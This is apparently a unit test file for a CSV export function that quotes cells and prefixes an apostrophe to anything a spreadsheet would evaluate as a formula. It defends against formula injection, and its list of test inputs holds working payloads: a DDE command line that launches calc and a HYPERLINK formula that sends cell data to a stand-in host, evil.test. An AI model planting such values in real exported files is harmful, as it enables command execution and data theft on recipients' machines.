import { describe, it } from 'node:test';

import { expect } from 'chai';

import { csv } from '../../../src/collector/inbox/csv.ts';

describe('csv', () => {
  it('has a byte order mark, semicolons, quotes around everything, and CRLF', () => {
    expect(
      csv([
        ['a', 'b;c'],
        ['say "hi"', 'two\nlines'],
      ]),
    ).to.equal('\ufeff"a";"b;c"\r\n"say ""hi""";"two\nlines"\r\n');
    expect(csv([])).to.equal('\ufeff');
  });

  const dangerous = [
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '|calc',
    "=cmd|' /C calc'!A0",
    ' =1',
    '\t=1',
    '\n=1',
    '\r=1',
    '\r\n+1',
    '\u00a0=1',
    '\u3000@x',
    '\u200b=1',
    '\ufeff=1',
    '\u00ad-1',
    '\u2060=1',
    '"=1',
    "'=1",
    '""=1',
    `'"=1`,
    ' " =1',
    '＝1',
    '＋1',
    '－1',
    '＠x',
    '=HYPERLINK("https://evil.test?"&A1)',
    '+49 170 1234567',
    '-',
    '=',
  ];
  it('puts an apostrophe before what a spreadsheet would calculate, in headers too', () => {
    for (const cell of dangerous)
      expect(csv([[cell]]), JSON.stringify(cell)).to.equal(`\ufeff"'${cell.replaceAll('"', '""')}"\r\n`);
  });

  it('leaves everything else as it is', () => {
    for (const cell of [
      '',
      'Renate',
      '0170 1234567',
      'a=b',
      'a@b.de',
      '1-2',
      '(+49) 170',
      '#1',
      'ja',
      "O'Neill",
      '5 | 6',
      '–',
      '„Zitat“',
    ]) {
      expect(csv([[cell]])).to.equal(`\ufeff"${cell}"\r\n`);
    }
  });
});
